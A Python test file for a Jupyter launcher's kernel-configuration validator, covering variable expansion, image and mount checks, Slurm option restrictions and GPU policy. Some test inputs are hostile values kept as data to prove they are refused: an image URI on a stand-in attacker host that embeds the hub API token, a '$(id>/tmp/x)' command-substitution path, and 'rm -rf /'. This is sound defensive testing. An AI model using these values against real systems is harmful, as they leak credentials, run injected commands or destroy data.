"""LaunchConfig: parsing, expansion and checks of a kernel's launch configuration (pure, no Slurm)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from jupyter_asgard.errors import LaunchConfigError
from jupyter_asgard.launch.launch_config import (
    LaunchConfig,
    json_schema,
    path_problems,
    policy_problems,
    with_site_partition,
)
from jupyter_asgard.launch.mounts import Mount

REPO = Path(__file__).resolve().parent.parent

ENV = {"USER": "alice", "HOME": "/home/alice", "PROJECT": "vision", "SCRATCH": "/netscratch/alice"}
LISTED = ("PROJECT", "SCRATCH", "NOPE", "A", "B", "USERX")  # what the site's expandable_variables lists in these tests
IMAGE = "/enroot/nvcr.io_nvidia_pytorch_23.12-py3.sqsh"
ASGARD_PYTORCH = {
    "image": IMAGE,
    "mounts": ["/netscratch/$USER:/netscratch/$USER", "/ds:/ds:ro"],
    "gpus": 1,
}


def parse(values: dict[str, Any], environ: dict[str, str] | None = None) -> LaunchConfig:
    return LaunchConfig.parse(values, ENV if environ is None else environ, LISTED)


def problems_of(values: dict[str, Any], environ: dict[str, str] | None = None) -> list[str]:
    with pytest.raises(LaunchConfigError) as error:
        parse(values, environ)
    assert str(error.value) == "; ".join(error.value.problems)
    return error.value.problems


# --- good configurations ----------------------------------------------------------------------


def test_asgard_pytorch_example() -> None:
    config = parse(ASGARD_PYTORCH)
    assert config == LaunchConfig(image=IMAGE, mounts=("/netscratch/alice:/netscratch/alice", "/ds:/ds:ro"), gpus="1")
    assert config.parsed_mounts() == [Mount("/netscratch/alice", "/netscratch/alice"), Mount("/ds", "/ds", ("ro",))]
    assert config.gpu_request() == ("", 1)
    assert config.image_is_file()
    assert config.problems() == []


def test_typed_gpu_request() -> None:
    config = parse({"image": IMAGE, "gpus": "h100:2"})
    assert config.gpus == "h100:2"
    assert config.gpu_request() == ("h100", 2)


def test_no_gpus() -> None:
    config = parse({"image": IMAGE})
    assert config.gpus == ""
    assert config.gpu_request() == ("", 0)


def test_full_config() -> None:
    values = {
        "image": "docker://nvcr.io#nvidia/pytorch:24.05-py3",
        "mounts": ["/netscratch/$USER:/data", "tmpfs:/scratch", "./code:/code:ro+rprivate"],
        "workdir": "/netscratch/alice/project",
        "container_name": "torch-env:create",
        "container_writable": True,
        "container_remap_root": False,
        "container_mount_home": None,
        "container_env": ["WANDB_API_KEY", "HF_HOME"],
        "partition": "H100",
        "gpus": "h100:2",
        "cpus_per_task": "8",
        "mem": "64G",
        "time": "1-00:00:00",
        "account": "vision-lab",
        "qos": "normal",
        "reservation": "course_2024",
        "constraint": "h100&ib",
        "detachable": True,
        "detach_grace": 600,
        "srun_args": ["--gpu-bind=closest"],
        "salloc_args": ["--signal=USR1@60", "--mail-type=END"],
    }
    config = parse(values)
    assert config.to_json() == {
        **values,
        "mounts": ["/netscratch/alice:/data", "tmpfs:/scratch", "./code:/code:ro+rprivate"],
        "container_mount_home": None,
        "cpus_per_task": 8,
    }
    assert not config.image_is_file()
    # to_json is JSON and parses back to the same configuration.
    assert parse(json.loads(json.dumps(config.to_json()))) == config


def test_none_values_mean_default() -> None:
    config = parse({"image": IMAGE, "gpus": None, "mounts": None, "cpus_per_task": None, "container_writable": None})
    assert config == LaunchConfig(image=IMAGE)


def test_text_is_stripped() -> None:
    config = parse({"image": f"  {IMAGE} ", "partition": " gpu ", "mounts": [" /ds:/ds:ro "], "cpus_per_task": " 4 "})
    assert (config.image, config.partition, config.mounts, config.cpus_per_task) == (IMAGE, "gpu", ("/ds:/ds:ro",), 4)


def test_tuples_are_accepted_for_lists() -> None:
    assert parse({"image": IMAGE, "mounts": ("/ds:/ds:ro",)}).mounts == ("/ds:/ds:ro",)


# --- expansion --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("mount", "expanded"),
    [
        ("/netscratch/$USER:/netscratch/$USER", "/netscratch/alice:/netscratch/alice"),
        ("/netscratch/${USER}:/data", "/netscratch/alice:/data"),
        ("/netscratch/${USER}_$PROJECT:/data", "/netscratch/alice_vision:/data"),
        ("$HOME/data:/data", "/home/alice/data:/data"),
        ("~/data:/data", "/home/alice/data:/data"),
        ("${SCRATCH}/${PROJECT}:/w:ro", "/netscratch/alice/vision:/w:ro"),
    ],
)
def test_mount_expansion(mount: str, expanded: str) -> None:
    assert parse({"image": IMAGE, "mounts": [mount]}).mounts == (expanded,)


@pytest.mark.parametrize(
    ("workdir", "expanded"),
    [
        ("~", "/home/alice"),
        ("~/project", "/home/alice/project"),
        ("$HOME/p", "/home/alice/p"),
        ("/netscratch/${USER}/p", "/netscratch/alice/p"),
        ("/plain", "/plain"),
    ],
)
def test_workdir_expansion(workdir: str, expanded: str) -> None:
    assert parse({"image": IMAGE, "workdir": workdir}).workdir == expanded


def test_image_expansion() -> None:
    config = parse({"image": "$HOME/images/${PROJECT}.sqsh"})
    assert config.image == "/home/alice/images/vision.sqsh"


def test_expansion_uses_the_given_environ_only() -> None:
    config = parse(
        {"image": IMAGE, "mounts": ["/netscratch/$USER:/data"], "workdir": "~/w"}, {"USER": "bob", "HOME": "/users/bob"}
    )
    assert config.mounts == ("/netscratch/bob:/data",)
    assert config.workdir == "/users/bob/w"


def test_only_leading_tilde_is_expanded() -> None:
    config = parse({"image": IMAGE, "workdir": "/a/~/b"})
    assert config.workdir == "/a/~/b"


def test_other_settings_are_not_expanded() -> None:
    config = parse({"image": IMAGE, "srun_args": ["--mail-user=$USER"], "account": "x"})
    assert config.srun_args == ("--mail-user=$USER",)


@pytest.mark.parametrize(
    ("values", "problem"),
    [
        ({"mounts": ["/netscratch/$NOPE:/data"]}, "mounts: $NOPE is not set on the Jupyter server"),
        ({"mounts": ["/netscratch/${NOPE}:/data"]}, "mounts: $NOPE is not set on the Jupyter server"),
        # $USERX is a different variable from $USER.
        ({"mounts": ["/netscratch/$USERX:/data"]}, "mounts: $USERX is not set on the Jupyter server"),
        ({"workdir": "/w/$NOPE"}, "workdir: $NOPE is not set on the Jupyter server"),
        ({"image": "/enroot/$NOPE.sqsh"}, "image: $NOPE is not set on the Jupyter server"),
    ],
)
def test_unknown_variables_are_reported(values: dict[str, Any], problem: str) -> None:
    assert problems_of({"image": IMAGE, **values}) == [problem]


def test_every_unknown_variable_is_reported() -> None:
    problems = problems_of({"image": IMAGE, "mounts": ["/$A/$USER/${B}:/data"]})
    assert problems == ["mounts: $A is not set on the Jupyter server", "mounts: $B is not set on the Jupyter server"]


SECRET = "hub-token-5e1f"  # the server's JUPYTERHUB_API_TOKEN in these tests


@pytest.mark.parametrize(
    ("key", "values"),
    [
        ("image", {"image": "docker://evil.example.org#x/${JUPYTERHUB_API_TOKEN}:latest"}),
        ("workdir", {"image": IMAGE, "workdir": "/w/$JUPYTERHUB_API_TOKEN"}),
        ("mounts", {"image": IMAGE, "mounts": ["/netscratch/$JUPYTERHUB_API_TOKEN:/data"]}),
    ],
)
def test_a_variable_the_site_does_not_list_is_refused_by_name_and_its_value_is_nowhere(
    key: str, values: dict[str, Any]
) -> None:
    config, problems = LaunchConfig.check(values, {**ENV, "JUPYTERHUB_API_TOKEN": SECRET}, LISTED)
    assert problems[0] == (
        f"{key}: $JUPYTERHUB_API_TOKEN is not a variable kernel settings may use: only $USER, $HOME and the "
        "variables the site lists are expanded; write the value itself, or have the site add "
        "'JUPYTERHUB_API_TOKEN' to c.PyxisProvisioner.expandable_variables"
    )
    assert SECRET not in json.dumps(config.to_json()) + " ".join(problems)


def test_without_a_site_list_only_user_and_home_are_expanded() -> None:
    config, problems = LaunchConfig.check({"image": IMAGE, "workdir": "$HOME/$USER/$PROJECT"}, ENV)
    assert config.workdir == "/home/alice/alice/$PROJECT"
    assert len(problems) == 1, problems
    assert problems[0].startswith("workdir: $PROJECT is not a variable kernel settings may use")


@pytest.mark.parametrize("path", ["/d/$[a[$(id>/tmp/x)]]", "/d/${X-/etc}", "/d/$$"])
def test_a_dollar_left_after_expansion_is_refused_in_a_mount(path: str) -> None:
    problems = problems_of({"image": IMAGE, "mounts": [f"{path}/$USER:/data"]})
    assert len(problems) == 1 and "Pyxis cannot mount a path containing '$'" in problems[0], problems


@pytest.mark.parametrize("value", ["/d/$[a[$(id>/tmp/x)]]", "/d/$HOME", "/d/${X-/etc}"])
def test_a_listed_variable_whose_value_holds_a_dollar_is_refused(value: str) -> None:
    problems = problems_of({"image": IMAGE, "mounts": ["$PROJECT:/data"]}, {**ENV, "PROJECT": value})
    assert problems == [
        "mounts: $PROJECT has a value that cannot be used in a path (a '$', a control character, or over "
        "4096 characters)"
    ]


def test_tilde_without_home_is_not_expanded() -> None:
    problems = problems_of({"image": IMAGE, "workdir": "~/project"}, {"USER": "alice"})
    assert problems == ["workdir '~/project' must be an absolute path inside the container"]


# --- unknown keys and wrong types -------------------------------------------------------------


def test_unknown_keys_are_reported_with_the_known_ones() -> None:
    problems = problems_of({"image": IMAGE, "gpu": 1, "Image": "x"})
    assert len(problems) == 2
    assert problems[0].startswith("unknown setting 'gpu' (known: image, mounts, workdir,")
    assert problems[1].startswith("unknown setting 'Image' (known: ")
    for key in LaunchConfig.keys():
        assert key in problems[0]


@pytest.mark.parametrize(
    ("values", "problem"),
    [
        ({"mounts": "/ds:/ds:ro"}, "mounts must be a list of strings"),
        ({"mounts": {"/ds": "/ds"}}, "mounts must be a list of strings"),
        ({"container_env": "HF_HOME"}, "container_env must be a list of strings"),
        ({"srun_args": "--exclusive"}, "srun_args must be a list of strings"),
        ({"mounts": ["/ds:/ds", 3]}, "mounts must be text, not 3"),
        ({"gpus": True}, "gpus must be a count (2) or TYPE:COUNT (h100:2), not True"),
        ({"gpus": 1.5}, "gpus must be a count (2) or TYPE:COUNT (h100:2), not 1.5"),
        ({"cpus_per_task": "abc"}, "cpus_per_task must be a whole number from 0 to 1000000, not 'abc'"),
        ({"cpus_per_task": -2}, "cpus_per_task must be a whole number from 0 to 1000000, not -2"),
        ({"cpus_per_task": "-2"}, "cpus_per_task must be a whole number from 0 to 1000000, not '-2'"),
        ({"cpus_per_task": True}, "cpus_per_task must be a whole number from 0 to 1000000, not True"),
        ({"cpus_per_task": 2.5}, "cpus_per_task must be a whole number from 0 to 1000000, not 2.5"),
        ({"cpus_per_task": ""}, "cpus_per_task must be a whole number from 0 to 1000000, not ''"),
        ({"container_writable": "yes"}, "container_writable must be true or false, not 'yes'"),
        ({"container_mount_home": 1}, "container_mount_home must be true or false, not 1"),
        ({"partition": 5}, "partition must be text, not 5"),
    ],
)
def test_wrong_types_are_reported(values: dict[str, Any], problem: str) -> None:
    assert problems_of({"image": IMAGE, **values}) == [problem]


@pytest.mark.parametrize(
    ("image", "problem"),
    [
        (["/a.sqsh"], "image must be text, not ['/a.sqsh']"),
        (3, "image must be text, not 3"),
        ("/" + "a" * 5000, "image is 5001 characters long; at most 4096 are allowed"),
    ],
)
def test_unusable_image_is_reported_first(image: Any, problem: str) -> None:
    # The image is then also missing, which the following problem may say.
    problems = problems_of({"image": image})
    assert problems[0] == problem
    assert all(later.startswith("image is required") for later in problems[1:])


def test_all_problems_are_collected_at_once() -> None:
    problems = problems_of(
        {
            "image": "foo.sqsh",
            "mounts": "/ds:/ds",
            "gpus": True,
            "cpus_per_task": "abc",
            "workdir": "relative/dir",
            "mem": "lots",
            "time": "8h",
            "partition": "bad name",
            "srun_args": ["--jobid=3"],
            "colour": "blue",
        }
    )
    assert problems[0].startswith("unknown setting 'colour'")
    assert problems[1:] == [
        "mounts must be a list of strings",
        "gpus must be a count (2) or TYPE:COUNT (h100:2), not True",
        "cpus_per_task must be a whole number from 0 to 1000000, not 'abc'",
        "image 'foo.sqsh' looks like a squashfs file but Pyxis would pull it from a registry: "
        "give its absolute path (starting with '/')",
        "workdir 'relative/dir' must be an absolute path inside the container",
        "partition 'bad name' is not a valid Slurm name (letters, digits, '_', '.', '-')",
        "mem 'lots': write a size such as 16G or 32000M",
        "time '8h': write minutes, HH:MM:SS or D-HH:MM:SS",
        "srun_args: --jobid is set by jupyter-asgard; leave it out: each kernel runs in an allocation of its own",
    ]


def test_launch_config_error_is_a_value_error() -> None:
    with pytest.raises(ValueError):
        parse({})


def test_non_ascii_digit_problem_names_the_setting() -> None:
    problems = problems_of({"image": IMAGE, "cpus_per_task": "²"})
    assert problems == ["cpus_per_task must be a whole number from 0 to 1000000, not '²'"]


def test_huge_number_problem_names_the_setting() -> None:
    problems = problems_of({"image": IMAGE, "cpus_per_task": 10**5000})
    assert len(problems) == 1 and problems[0].startswith("cpus_per_task")


# --- image ------------------------------------------------------------------------------------


def test_image_is_required() -> None:
    for values in ({}, {"image": ""}, {"image": "   "}, {"image": None}):
        problems = problems_of(values)
        assert len(problems) == 1
        assert problems[0].startswith("image is required: a squashfs file such as /enroot/")
        assert "docker://" in problems[0]


@pytest.mark.parametrize("image", ["foo.sqsh", "nvcr.io_nvidia_pytorch_23.12-py3.sqsh", "enroot/x.sqsh"])
def test_bare_squashfs_name_is_refused_with_a_hint(image: str) -> None:
    assert problems_of({"image": image}) == [
        f"image {image!r} looks like a squashfs file but Pyxis would pull it from a registry: "
        "give its absolute path (starting with '/')"
    ]


@pytest.mark.parametrize(
    ("image", "is_file"),
    [
        ("/enroot/nvcr.io_nvidia_pytorch_23.12-py3.sqsh", True),
        ("./images/mine.sqsh", True),
        ("docker://nvcr.io#nvidia/pytorch:24.05-py3", False),
        ("nvcr.io/nvidia/pytorch:24.05-py3", False),
        ("docker://nvcr.io#nvidia/pytorch", False),
        ("docker://alice@nvcr.io#nvidia/pytorch:24.05-py3", False),
        ("docker://registry.example.com:5000#team/image:1.0", False),
        ("dockerd://ubuntu:22.04", False),
        ("ubuntu", False),
        ("ubuntu:22.04", False),
        ("nvidia/cuda:12.4.1-devel-ubuntu22.04", False),
        ("ubuntu@sha256:" + "a" * 64, False),
    ],
)
def test_images_accepted(image: str, is_file: bool) -> None:
    config = parse({"image": image})
    assert config.image == image
    assert config.image_is_file() is is_file


@pytest.mark.parametrize(
    "image",
    [
        "docker://",
        "docker://Ubuntu",
        "nvcr.io#nvidia/pytorch:24.05 py3",
        "http://example.com/image",
        "ubuntu:",
        "docker://nvcr.io#",
        "ubuntu@sha256:",
        "-ubuntu",
    ],
)
def test_images_refused(image: str) -> None:
    assert problems_of({"image": image}) == [
        f"image {image!r} is neither a path nor an enroot URI like docker://nvcr.io#nvidia/pytorch:24.05-py3"
    ]


def test_an_image_scheme_only_enroot_import_knows_is_refused_with_what_pyxis_would_do() -> None:
    assert problems_of({"image": "podman://ubuntu"}) == [
        "image 'podman://ubuntu': Pyxis does not take podman:// images (it would pull docker://podman://ubuntu); "
        "use docker://, dockerd:// or a squashfs file (enroot import podman://... makes one)"
    ]


@pytest.mark.parametrize("image", ["registry.example.com:5000/team/image:1.0", "localhost:5000/image"])
def test_registry_with_port_without_scheme_is_accepted(image: str) -> None:
    assert parse({"image": image}).image == image


# --- other field formats ----------------------------------------------------------------------


@pytest.mark.parametrize("time", ["60", "30:00", "8:00:00", "1-00:00:00", "2-12", "2-12:30", "UNLIMITED", "infinite"])
def test_time_formats_accepted(time: str) -> None:
    assert parse({"image": IMAGE, "time": time}).time == time


@pytest.mark.parametrize("time", ["8h", "1:2:3:4", "-1", "1-", "1-123", "8:000", "1.5", "tomorrow"])
def test_time_formats_refused(time: str) -> None:
    assert problems_of({"image": IMAGE, "time": time}) == [f"time {time!r}: write minutes, HH:MM:SS or D-HH:MM:SS"]


@pytest.mark.parametrize("mem", ["32G", "32g", "32000M", "32000", "1T", "512K", "0"])
def test_mem_formats_accepted(mem: str) -> None:
    assert parse({"image": IMAGE, "mem": mem}).mem == mem


@pytest.mark.parametrize("mem", ["32 G", "G", "1.5G", "-1G", "lots", "32X"])
def test_mem_formats_refused(mem: str) -> None:
    assert problems_of({"image": IMAGE, "mem": mem}) == [f"mem {mem!r}: write a size such as 16G or 32000M"]


@pytest.mark.parametrize("gpus", ["h100", "2:h100", "h100:", ":2", "h100:two", "-1", "1.5", "a100:1:2"])
def test_gpu_formats_refused(gpus: str) -> None:
    assert problems_of({"image": IMAGE, "gpus": gpus}) == [f"gpus {gpus!r}: write a count (2) or TYPE:COUNT (h100:2)"]


@pytest.mark.parametrize(
    ("gpus", "expected"), [(0, ("", 0)), (4, ("", 4)), ("a100_80g:8", ("a100_80g", 8)), ("gb-200:1", ("gb-200", 1))]
)
def test_gpu_requests(gpus: Any, expected: tuple[str, int]) -> None:
    assert parse({"image": IMAGE, "gpus": gpus}).gpu_request() == expected


def test_workdir_must_be_absolute() -> None:
    assert problems_of({"image": IMAGE, "workdir": "./project"}) == [
        "workdir './project' must be an absolute path inside the container"
    ]


@pytest.mark.parametrize("name", ["torch", "my-env.v2", "torch:auto", "torch:create", "torch:exec", "torch:no_exec"])
def test_container_names_accepted(name: str) -> None:
    assert parse({"image": IMAGE, "container_name": name}).container_name == name


@pytest.mark.parametrize("name", ["my env", "torch:always", "a/b", "torch:", ":create"])
def test_container_names_refused(name: str) -> None:
    assert problems_of({"image": IMAGE, "container_name": name}) == [
        f"container_name {name!r}: use letters, digits, '.', '_', '-' and optionally :auto, :create, :exec or :no_exec"
    ]


def test_container_env_names() -> None:
    assert parse({"image": IMAGE, "container_env": ["HF_HOME", "_X1"]}).container_env == ("HF_HOME", "_X1")
    assert problems_of({"image": IMAGE, "container_env": ["HF-HOME", "1X", "OK"]}) == [
        "container_env: 'HF-HOME' is not a variable name",
        "container_env: '1X' is not a variable name",
    ]


@pytest.mark.parametrize("key", ["partition", "account", "qos", "reservation"])
@pytest.mark.parametrize("value", ["a b", "-p", "x;y", "gpu,cpu"])
def test_slurm_names_refused(key: str, value: str) -> None:
    assert problems_of({"image": IMAGE, key: value}) == [
        f"{key} {value!r} is not a valid Slurm name (letters, digits, '_', '.', '-')"
    ]


@pytest.mark.parametrize("constraint", ["-x", "h100 & ib"])
def test_constraint_refused(constraint: str) -> None:
    assert problems_of({"image": IMAGE, "constraint": constraint}) == [
        f"constraint {constraint!r} must be a feature expression without spaces"
    ]


def test_invalid_mounts_are_reported_in_pyxis_words() -> None:
    problems = problems_of({"image": IMAGE, "mounts": ["/ds:/ds:ro+rw", "data:/data", "/ok:/ok"]})
    assert problems == [
        "invalid mount '/ds:/ds:ro+rw': it is both read-only (ro) and read-write (rw)",
        "invalid mount 'data:/data': the source must be an absolute path, a relative path starting with '.', "
        '"tmpfs" or "umount"',
    ]


# --- srun_args / salloc_args ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "args"),
    [
        ("srun_args", ["--gpu-bind=closest", "--cpu-bind=cores", "--hint=nomultithread", "--signal=USR1@60"]),
        ("salloc_args", ["--gpu-bind=closest", "--mail-type=END,FAIL", "--nodelist=gpu01", "--begin=now+1hour"]),
    ],
)
def test_extra_options_accepted(key: str, args: list[str]) -> None:
    assert getattr(parse({"image": IMAGE, key: args}), key) == tuple(args)


@pytest.mark.parametrize("key", ["srun_args", "salloc_args"])
@pytest.mark.parametrize(
    "arg", ["--exclusive", "--tres-per-task=gres/gpu:8", "--clusters=other", "--overcommit", "--gpus-per-gpu-job=8"]
)
def test_an_option_off_the_allow_list_is_refused_with_the_list(key: str, arg: str) -> None:
    """--exclusive takes every GPU of a node, --tres-per-task GPUs past max_gpus, --clusters another cluster."""
    (problem,) = problems_of({"image": IMAGE, key: [arg]})
    assert problem.startswith(
        f"{key}: {arg.split('=')[0]} is not among the options a kernel may add; those "
        "shape only the kernel's own share of its node: --"
    )
    assert "--gpu-bind" in problem and "--signal" in problem


@pytest.mark.parametrize(
    ("key", "arg", "problem"),
    [
        ("srun_args", "--gpu-b=closest", "srun_args: --gpu-b: write the option in full (--gpu-bind)"),
        ("salloc_args", "-v", "salloc_args: -v: write options in their long form (--name=value); those shape"),
        ("srun_args", "-oJobs.log", "srun_args: -oJobs.log: write options in their long form"),
    ],
)
def test_abbreviations_and_short_options_are_refused_with_what_to_write(key: str, arg: str, problem: str) -> None:
    (found,) = problems_of({"image": IMAGE, key: [arg]})
    assert found.startswith(problem), found


@pytest.mark.parametrize(
    ("key", "args", "problem"),
    [
        (
            "salloc_args",
            ["--begin", "now"],
            "salloc_args: --begin takes a value: write it in the same argument, --begin=now",
        ),
        ("srun_args", ["--signal"], "srun_args: --signal takes a value: write it in the same argument, --signal=VALUE"),
        (
            "srun_args",
            ["--mpi", "--label"],
            "srun_args: --mpi takes a value: write it in the same argument, --mpi=VALUE",
        ),
    ],
)
def test_an_option_with_its_value_apart_is_refused_as_it_would_take_the_next_argument(
    key: str, args: list[str], problem: str
) -> None:
    """srun_args and salloc_args come before jupyter-asgard's own options: "--begin" last would take one."""
    (found,) = problems_of({"image": IMAGE, key: args})
    assert found.startswith(problem + " (alone, Slurm would take the argument after it as its value"), found


def test_options_whose_value_is_optional_or_none_stand_alone() -> None:
    values = {"image": IMAGE, "srun_args": ["--label", "--unbuffered", "--propagate"], "salloc_args": ["--nice"]}
    assert parse(values).srun_args == ("--label", "--unbuffered", "--propagate")


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("gpus", "\u0663"),  # Arabic-Indic digit three
        ("gpus", "h100:\u0662"),
        ("mem", "\u0661\u0666G"),
        ("mem", "16\u212a"),  # the Kelvin sign, which IGNORECASE folds onto k
        ("time", "\u0661:00:00"),
        ("time", "UNL\u0131MITED"),  # dotless i, which IGNORECASE folds onto i
        ("image", "docker://nvcr.io#nvidia/pytorch:24.05-py\u0663"),
        ("image", "docker://nvcr.io:\u0665\u0660\u0660\u0660/nvidia/pytorch:24.05"),
    ],
)
def test_digits_and_letters_are_ascii_ones(key: str, value: str) -> None:
    (problem,) = problems_of({"image": IMAGE, key: value})
    assert problem.startswith(f"{key} {value!r}"), problem


@pytest.mark.parametrize("key", ["srun_args", "salloc_args"])
def test_extra_non_options_refused(key: str) -> None:
    assert problems_of({"image": IMAGE, key: ["--signal=USR1@60", "exclusive", "rm -rf /"]}) == [
        f"{key}: 'exclusive' is not an option; write each as --name or --name=value",
        f"{key}: 'rm -rf /' is not an option; write each as --name or --name=value",
    ]


@pytest.mark.parametrize("key", ["srun_args", "salloc_args"])
@pytest.mark.parametrize(
    ("arg", "option", "instead"),
    [
        ("--jobid=12", "--jobid", "leave it out: each kernel runs in an allocation of its own"),
        ("--jobid", "--jobid", "leave it out: each kernel runs in an allocation of its own"),
        ("--container-image=/enroot/other.sqsh", "--container-image", "use the setting 'image' instead"),
        ("--container-mounts=/a:/a", "--container-mounts", "use the setting 'mounts' instead"),
        ("--container-writable", "--container-writable", "use the setting 'container_writable' instead"),
        ("--no-container-mount-home", "--no-container-mount-home", "use the setting 'container_mount_home' instead"),
        ("-J", "-J", "leave it out: jupyter-asgard finds its kernels' jobs by their names"),
        ("--job-name=mine", "--job-name", "leave it out: jupyter-asgard finds its kernels' jobs by their names"),
        (
            "--no-shell",
            "--no-shell",
            ("leave it out: salloc holds the allocation for as long as the Jupyter server runs"),
        ),
        ("--pty", "--pty", "leave it out: the kernel talks to Jupyter through its ports, not a terminal"),
        (
            "--export=ALL",
            "--export",
            ("leave it out: set variables in the kernelspec's env (container_env lets them win over the image's)"),
        ),
        ("--chdir=/tmp", "--chdir", "use the setting 'workdir' instead"),
        ("-D", "-D", "use the setting 'workdir' instead"),
        ("-N2", "-N", "leave it out: a kernel is one task on one node"),
    ],
)
def test_reserved_options_refused_with_what_to_do_instead(key: str, arg: str, option: str, instead: str) -> None:
    assert problems_of({"image": IMAGE, key: [arg]}) == [f"{key}: {option} is set by jupyter-asgard; {instead}"]


@pytest.mark.parametrize("arg", ["-Jmine", "-D/tmp", "-J mine"])
def test_reserved_short_option_with_attached_value_refused(arg: str) -> None:
    problems = problems_of({"image": IMAGE, "srun_args": [arg]})
    assert len(problems) == 1 and f"srun_args: {arg[:2]} is set by jupyter-asgard" in problems[0]


@pytest.mark.parametrize("key", ["srun_args", "salloc_args"])
@pytest.mark.parametrize(
    ("arg", "meant", "instead"),
    [
        ("--jobi=3", "--jobid", "leave it out: each kernel runs in an allocation of its own"),
        ("--job-na=x", "--job-name", "leave it out: jupyter-asgard finds its kernels' jobs by their names"),
        ("--comm=x", "--comment", "leave it out: it records which Jupyter server holds the allocation"),
        ("--exp=NONE", "--export", "leave it out: set variables"),
        ("--ch=/", "--chdir", "use the setting 'workdir' instead"),
        ("--container-m=/:/host", "--container-mounts, --container-mount-home", "write the option you mean in full"),
        ("--container-im=/x.sqsh", "--container-image", "use the setting 'image' instead"),
        ("--no-container-r", "--no-container-remap-root", "use the setting 'container_remap_root' instead"),
        ("--n", "--no-shell, --nodes, --ntasks, ...", "write the option you mean in full"),
    ],
)
def test_abbreviated_reserved_options_refused(key: str, arg: str, meant: str, instead: str) -> None:
    """getopt_long, which srun and salloc read their options with, takes any unambiguous abbreviation."""
    [problem] = problems_of({"image": IMAGE, key: [arg]})
    given = arg.split("=")[0]
    assert problem.startswith(
        f"{key}: {given} abbreviates {meant}, set by jupyter-asgard (Slurm reads an "
        "abbreviation as the whole option); " + instead
    ), problem


@pytest.mark.parametrize("key", ["srun_args", "salloc_args"])
@pytest.mark.parametrize(
    "arg", ["--container-save=/x.sqsh", "--container-entrypoint", "--no-container-entrypoint", "--containers"]
)
def test_every_pyxis_option_refused(key: str, arg: str) -> None:
    assert problems_of({"image": IMAGE, key: [arg]}) == [
        (
            f"{key}: {arg.split('=')[0]} is a Pyxis option, and those are set by jupyter-asgard; leave it out: "
            "jupyter-asgard sets Pyxis's options from the settings image, mounts, workdir and container_*"
        )
    ]


@pytest.mark.parametrize("key", ["srun_args", "salloc_args"])
@pytest.mark.parametrize(
    ("arg", "spelled", "option"),
    [
        ("-vJx", "-v -J x", "-J"),
        ("-vvJ", "-v -v -J", "-J"),
        ("-QN2", "-Q -N 2", "-N"),
        ("-Qn4", "-Q -n 4", "-n"),
        ("-vD/tmp", "-v -D /tmp", "-D"),
    ],
)
def test_reserved_short_option_in_a_cluster_refused(key: str, arg: str, spelled: str, option: str) -> None:
    """getopt reads -vJx as -v -J x: a reserved letter anywhere before the first that takes a value counts."""
    [problem] = problems_of({"image": IMAGE, key: [arg]})
    instead = "use the setting 'workdir' instead" if option == "-D" else "leave it out: "
    assert problem.startswith(
        f"{key}: {arg} is read by Slurm as {spelled}, and {option} is set by jupyter-asgard; " + instead
    ), problem


@pytest.mark.parametrize(
    ("key", "arg"),
    [("srun_args", "-oJobs.log"), ("salloc_args", "-wJnode"), ("srun_args", "-voJ.log"), ("salloc_args", "-vwnodeN1")],
)
def test_a_value_is_not_read_as_options(key: str, arg: str) -> None:
    """In a cluster, the rest after a letter that takes a value is that value: -oJobs.log is the output file
    "Jobs.log", not -o with -J; it is refused for being short, not for a -J it does not hold."""
    (problem,) = problems_of({"image": IMAGE, key: [arg]})
    assert "write options in their long form" in problem and "-J is set" not in problem


@pytest.mark.parametrize(
    ("arg", "setting"),
    [
        ("--partition=big", "partition"),
        ("-pbig", "partition"),
        ("--part=big", "partition"),
        ("--gpus=8", "gpus"),
        ("-G8", "gpus"),
        ("--gres=gpu:8", "gpus"),
        ("--gpus-per-node=8", "gpus"),
        ("--time=9-0", "time"),
        ("-A", "account"),
        ("--qos=high", "qos"),
        ("--mem=1T", "mem"),
        ("--constraint=h100", "constraint"),
    ],
)
def test_what_a_launch_setting_sets_is_refused_so_the_sites_limits_hold(arg: str, setting: str) -> None:
    """Slurm takes the last of two, and salloc_args come after the settings: they would lift allowed_partitions
    and max_gpus."""
    with pytest.raises(LaunchConfigError) as raised:
        parse({"image": IMAGE, "salloc_args": [arg]})
    assert f"use the setting {setting!r} instead" in str(raised.value)


@pytest.mark.parametrize("key", ["srun_args", "salloc_args"])
@pytest.mark.parametrize("arg", ["--", "-", "--=x"])
def test_what_would_end_the_options_is_refused(key: str, arg: str) -> None:
    """After "--" or a lone "-", srun and salloc would take the rest as the command to run."""
    assert problems_of({"image": IMAGE, key: [arg]}) == [
        f"{key}: {arg!r} is not an option; write each as --name or --name=value"
    ]


# --- size limits and control characters -------------------------------------------------------


def test_oversized_text_refused() -> None:
    long_path = "/" + "a" * 5000
    assert problems_of({"image": IMAGE, "mounts": [long_path]}) == [
        "mounts is 5001 characters long; at most 4096 are allowed"
    ]


def test_text_at_the_limit_accepted() -> None:
    image = "/" + "a" * 4095
    assert parse({"image": image}).image == image


def test_oversized_lists_refused() -> None:
    assert problems_of({"image": IMAGE, "mounts": ["/ds:/ds"] * 65}) == [
        "mounts has 65 entries; at most 64 are allowed"
    ]
    assert len(parse({"image": IMAGE, "mounts": ["/ds:/ds"] * 64}).mounts) == 64


@pytest.mark.parametrize("char", ["\n", "\t", "\r", "\x00", "\x1b"])
@pytest.mark.parametrize("key", ["image", "workdir", "partition"])
def test_control_characters_refused(char: str, key: str) -> None:
    values = {"image": IMAGE, key: f"/x{char}y"}
    assert f"{key} contains a control character (newline, tab, ...)" in problems_of(values)


def test_control_character_in_a_list_entry_refused() -> None:
    assert problems_of({"image": IMAGE, "srun_args": ["--x=a\nb"]}) == [
        "srun_args contains a control character (newline, tab, ...)"
    ]


# --- policy and paths -------------------------------------------------------------------------


def test_policy_allows_up_to_max_gpus() -> None:
    assert policy_problems(parse({"image": IMAGE, "gpus": "h100:2"}), max_gpus=2) == []
    assert policy_problems(parse({"image": IMAGE}), max_gpus=0) == []


@pytest.mark.parametrize("gpus", [3, "3", "h100:3"])
def test_policy_refuses_more_gpus(gpus: Any) -> None:
    assert policy_problems(parse({"image": IMAGE, "gpus": gpus}), max_gpus=2) == [
        "gpus: 3 GPUs requested but this site allows at most 2 per kernel; ask for 2 or fewer"
    ]


def test_policy_partitions() -> None:
    allowed = ["H100", "A100"]
    assert policy_problems(parse({"image": IMAGE, "partition": "A100"}), 8, allowed) == []
